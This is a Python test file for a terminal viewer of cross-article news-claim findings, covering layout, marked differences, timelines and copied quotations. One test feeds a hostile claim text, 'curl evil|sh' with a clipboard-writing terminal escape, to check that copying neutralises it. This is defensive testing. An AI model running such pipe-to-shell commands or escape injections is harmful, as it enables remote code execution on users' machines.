"""What the panes show, as plain lines, without a screen."""

from __future__ import annotations

from dataclasses import replace

import pytest
from rich.cells import cell_len

from checker.model import Answer, Evidence, Finding, Pair, Report, Review
from claims.display import display
from tui.commands import COMMANDS
from tui.layout import Line, text_of
from tui.marks import marks
from tui.pages.article import article_page, claim_line
from tui.pages.claims import quote_for_copy
from tui.pages.finding import Look, finding_page
from tui.pages.help import help_page
from tui.pages.timeline import timeline_page
from tui.pages.why import why_page
from tui.terminal import MODES
from tui.why import Compared, compared
from tui.wording import period


def lines_of(page) -> list[Line]:
    return [page.line(index) for index in range(len(page))]


def findings_of(article: str, report: Report) -> dict[str, Finding]:
    mine = {claim.id for claim in report.claims if claim.article == article}
    return {claim: finding for finding in report.findings for claim in finding.claims if claim in mine}


def styled(lines: list[Line], style: str) -> str:
    return " ".join(piece.text.strip() for line in lines for piece in line if style in piece.style.split())


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("width", [8, 30, 60, 74, 120])
def test_every_line_of_a_finding_fits_its_pane(report: Report, mode, width: int) -> None:
    for finding in report.findings:
        look = Look("a draft, ניסיון", as_table=width % 4 == 0)
        page = finding_page(finding, report.claim(finding.claims[0]), report, width, mode, look)
        assert {cell_len(text_of(line)) for line in lines_of(page)} == {width}
        assert len(page.blocks) == len(finding.claims)


def test_claims_stand_side_by_side_where_there_is_room(report: Report) -> None:
    finding = report.findings[1]
    page = finding_page(finding, report.claim("c6"), report, 74, "logical")
    assert page.blocks[0][0] == page.blocks[1][0]
    narrow = finding_page(finding, report.claim("c6"), report, 50, "logical")
    assert narrow.blocks[1][0] > narrow.blocks[0][1]


def test_a_claim_says_who_when_what_and_on_whose_word(report: Report) -> None:
    page = finding_page(report.findings[0], report.claim("c2"), report, 60, "logical")
    text = "\n".join(text_of(line) for line in lines_of(page))
    for expected in ("دلتا اليوم (inferred)", "unknown", "↑ 33 %", "2022", "وكالة ميريديان → Meridian Wire",
                     "echo with", "one-origin", "+0.30", "both go back to Meridian Wire", "4 origins"):  # fmt: skip
        assert expected in text


def test_the_differing_part_is_marked_in_the_quotation(report: Report) -> None:
    conflict = finding_page(report.findings[0], report.claim("c5"), report, 60, "logical")
    assert styled(lines_of(conflict), "differs") == "28 percent"
    status = finding_page(report.findings[1], report.claim("c6"), report, 60, "logical")
    assert styled(lines_of(status), "differs") == "عضو كامل משקיפה"
    scope = finding_page(report.findings[2], report.claim("c10"), report, 60, "logical")
    assert "3.1 million containers" in styled(lines_of(scope), "differs").replace("  ", " ")


def test_what_one_side_does_not_state_is_not_marked_as_different(report: Report) -> None:
    single = report.findings[5]
    assert marks(single, report.claim("c14"), report) == []
    lonely = replace(report.claim("c9"), values=())
    changed = Report(report.articles, tuple(lonely if c.id == "c9" else c for c in report.claims), report.findings)
    assert marks(report.findings[3], changed.claim("c8"), changed) == []


def test_marks_are_spans_of_the_article(report: Report) -> None:
    for finding in report.findings:
        for claim_id in finding.claims:
            claim = report.claim(claim_id)
            text = report.article_of(claim).text
            for span in marks(finding, claim, report):
                assert any(text[span.start : span.end] == item.text for item in
                           (*claim.values, *claim.moments, *claim.concepts))  # fmt: skip


def test_a_decision_and_a_note_are_shown(report: Report) -> None:
    review = Review("accept", "سألنا الهيئة: الردّ غداً", "2023-03-06T09:00:00Z", "dana", reason="seen it", tags=("ميناء",),
                    assignee="noor")  # fmt: skip
    page = finding_page(replace(report.findings[1], review=review), report.claim("c6"), report, 60, "logical")
    text = "\n".join(text_of(line) for line in lines_of(page))
    for expected in ("accepted by dana", "سألنا الهيئة: الردّ غداً", "seen it", "ميناء", "noor"):
        assert expected in text
    other = replace(review, decision="override", verdict="conflict", conflict_type="date", stale=True, disputed=True)
    page = finding_page(replace(report.findings[4], review=other), report.claim("c12"), report, 90, "logical")
    text = "\n".join(text_of(line) for line in lines_of(page))
    assert "conflict of date by dana, but the verdict has changed since" in text and "reviewers differ" in text


def test_the_answers_stand_at_the_head_with_their_outlets(report: Report) -> None:
    page = finding_page(report.findings[0], report.claim("c1"), report, 100, "logical")
    text = [text_of(line) for line in lines_of(page)]
    (first,) = [line for line in text if line.startswith("answers")]
    assert "A ↑ 33 %" in first and "أخبار النيل · دلتا اليوم · unknown · Meridian Wire" in first
    assert any("B ↑ 28 %  Harbour Post" in line for line in text)


def test_a_table_has_a_row_for_each_claim_by_answer(report: Report) -> None:
    page = finding_page(report.findings[0], report.claim("c5"), report, 110, "logical", Look(as_table=True))
    rows = [text_of(page.line(first)) for first, last in page.blocks if first == last]
    assert len(rows) == 5 and rows[4].startswith(" B") and "28 %" in rows[4] and "a customs official" in rows[4]
    assert "وكالة ميريديان → Meridian Wire" in rows[1]


def test_a_hidden_verdict_shows_nowhere_on_the_page(report: Report) -> None:
    finding = replace(report.findings[0], verdict="single", conflict_type=None, origins=0, pairs=())
    page = finding_page(finding, report.claim("c5"), report, 110, "logical", Look(hidden=True))
    text = "\n".join(text_of(line) for line in lines_of(page))
    assert "hidden until you decide" in text and "28 percent" in text
    for given_away in ("conflict", "single", "same-answer", "answers"):
        assert given_away not in text


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("width", [8, 30, 74, 120])
def test_every_line_of_a_time_line_fits(report: Report, mode, width: int) -> None:
    for finding in report.findings:
        page = timeline_page(finding, report.claim(finding.claims[0]), report, width, mode)
        assert {cell_len(text_of(line)) for line in lines_of(page)} == {width}
        assert len(page.blocks) == len(finding.claims)


def test_a_time_line_puts_statements_in_the_order_of_their_days(report: Report) -> None:
    page = timeline_page(report.findings[0], report.claim("c1"), report, 90, "logical")
    text = [text_of(line) for line in lines_of(page)]
    days = [line.strip() for line in text if line.startswith(" 2023-")]
    assert days == ["2023-03-01", "2023-03-02", "2023-03-05"]
    assert any("× contradicts أخبار النيل · Meridian Wire" in line for line in text)
    assert any('" repeats Meridian Wire' in line for line in text)
    scale = next(line for line in text if "28 % ─" in line and line.rstrip().endswith("─ 33 %"))
    marks_at = [line.index("◆") for line in text if "◆" in line]
    assert min(marks_at) < len(scale) // 2 < max(marks_at)


def test_an_update_says_from_what_to_what(report: Report) -> None:
    early, late = report.claim("c8"), report.claim("c15")
    pair = Pair("c8", "c15", "update", 0.8, (), rule="later-count")
    finding = Finding("u", "How many?", "update", ("c15", "c8"), 2, (pair,))
    text = "\n".join(text_of(line) for line in lines_of(timeline_page(finding, late, report, 100, "logical")))
    assert "↑ updates دلتا اليوم  > 120 عاملاً ⟶ ↑ to 14 workers" in text and early.article == "delta"


def test_a_verdict_in_an_article_is_a_sign_as_well_as_a_colour(report: Report) -> None:
    article = report.by_article["nile"]
    mine = sorted((claim for claim in report.claims if claim.article == "nile"), key=lambda claim: claim.start)
    page = article_page(article, mine, mine[0], findings_of("nile", report), 100, "logical")
    text = [text_of(line) for line in lines_of(page)]
    assert any("× conflict 2   ≠ different-scope 1   = agreement 1" in line for line in text)
    margin = [line[2:5].strip() for line in text if line[2] != " " and line[5] == " "]
    assert margin[-3:] == ["×≠", "×", "="]


def test_an_article_says_what_it_does_not_say(report: Report) -> None:
    article = report.by_article["wire"]
    page = article_page(article, [], None, {}, 80, "logical", ["How large was the profit?", "هل المدينة عضو؟"])
    text = "\n".join(text_of(line) for line in lines_of(page))
    assert "not stated here" in text and "○ How large was the profit?" in text and "هل المدينة عضو؟" in text


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("width", [8, 40, 110])
def test_why_two_claims_are_apart_is_said_with_its_evidence(report: Report, mode, width: int) -> None:
    left, right = report.claim("c1"), report.claim("c9")
    evidence = (Evidence("concepts", "different", -0.4, "«حركة» and «עובדים» share no subject"),)
    said = Compared((left, report.article_of(left)), (right, report.article_of(right)), None, None, 0.1, "no-subject", evidence)
    lines = lines_of(why_page(said, width, mode))
    assert {cell_len(text_of(line)) for line in lines} == {width}
    if mode == "logical" and width == 110:
        text = "\n".join(text_of(line) for line in lines)
        assert "about different things" in text and "no-subject" in text and "share no subject" in text


def _of_states(report: Report) -> tuple[Report, Finding]:
    """The finding on a state, its answers told in words."""
    (told,) = (one for one in report.findings if one.conflict_type == "status")
    told = replace(told, answers=(Answer("a full member", told.claims[:1], 1), Answer("an observer", told.claims[1:], 1)))
    return replace(report, findings=tuple(told if one.id == told.id else one for one in report.findings)), told


def test_the_foot_of_an_article_tells_the_answer_that_the_finding_tells(report: Report) -> None:
    report, told = _of_states(report)
    for ident, answer in zip(told.claims[:2], ("a full member", "an observer"), strict=True):
        foot = claim_line(report.claim(ident), 0, 3, told, 120, "logical")
        assert answer in text_of(foot[1])
        assert answer not in text_of(claim_line(report.claim(ident), 0, 3, None, 120, "logical")[1])


def test_why_tells_the_answers_that_the_finding_tells(report: Report) -> None:
    report, told = _of_states(report)
    left, right = told.claims[:2]
    found = compared((left, report), (right, report))
    assert found.told == (["a full member"], ["an observer"])
    text = "\n".join(text_of(line) for line in lines_of(why_page(found, 110, "logical")))
    assert "a full member" in text and "an observer" in text


def test_a_time_that_is_the_value_is_not_told_twice(report: Report) -> None:
    dated = next(one for one in report.claims if one.kind == "date" and one.when)
    foot = text_of(claim_line(dated, 0, 3, None, 120, "logical")[1])
    assert foot.count(period(dated.when)) == 1
    figure = next(one for one in report.claims if one.values and one.when)
    assert period(figure.when) in text_of(claim_line(figure, 0, 3, None, 120, "logical")[1])


@pytest.mark.parametrize("mode", MODES)
def test_the_article_marks_every_claim_where_it_stands(report: Report, mode) -> None:
    article = report.by_article["nile"]
    mine = [claim for claim in report.claims if claim.article == "nile"]
    page = article_page(article, mine, mine[1], findings_of("nile", report), 100, mode)
    first, last = page.lines_of(mine[1])
    assert first <= last < len(page)
    assert text_of(page.line(first)).startswith(" ▌")
    lines = lines_of(page)
    if mode == "logical":
        assert styled(lines, "chosen") == mine[1].text
        assert mine[0].text in styled(lines, "claim")


def test_hidden_characters_do_not_shift_the_marks(report: Report) -> None:
    article = report.by_article["wire"]
    claim = report.claim("c4")
    hidden = "\u202e\x1b[2J\u200b"
    moved = replace(article, text=hidden + article.text)
    shifted = replace(claim, start=claim.start + len(hidden), end=claim.end + len(hidden), values=(), moments=())
    page = article_page(moved, [shifted], shifted, {}, 100, "logical")
    assert styled(lines_of(page), "chosen") == claim.text


def test_a_copied_quotation_is_logical_text_on_one_line(report: Report) -> None:
    quote = quote_for_copy(report.claim("c1"), report)
    assert quote == "“حركة الحاويات ارتفعت بنسبة 33% عام 2022” (أخبار النيل, 2023-03-02, citing هيئة الموانئ)"
    linked = Report((replace(report.articles[0], url="https://nile.example/1"),), report.claims, ())
    assert quote_for_copy(report.claim("c1"), linked).endswith("<https://nile.example/1>")
    hostile = replace(report.claim("c1"), text="x\ncurl evil|sh\x1b]52;c;e\x07")
    assert quote_for_copy(hostile, report) == display(
        "“x curl evil|sh⟨001B⟩]52;c;e⟨0007⟩” (أخبار النيل, 2023-03-02, citing هيئة الموانئ)"
    )


def test_a_reason_reads_from_the_left_even_where_it_begins_with_a_foreign_quote(report: Report) -> None:
    finding = report.findings[1]
    pair = finding.pairs[0]
    evidence = replace(pair.evidence[0], reason="«משקיפה» against «عضو كامل»: both cannot hold")
    changed = replace(finding, pairs=(replace(pair, evidence=(evidence,)),))
    text = "\n".join(
        text_of(line) for line in lines_of(finding_page(changed, report.claim("c6"), report, 90, "visual"))
    )
    assert "-0.70  «הפיקשמ» against «" in text


def test_help_explains_every_command() -> None:
    text = " ".join(" ".join(text_of(line) for line in lines_of(help_page(90, "visual"))).split())
    assert all(command.help in text for command in COMMANDS)
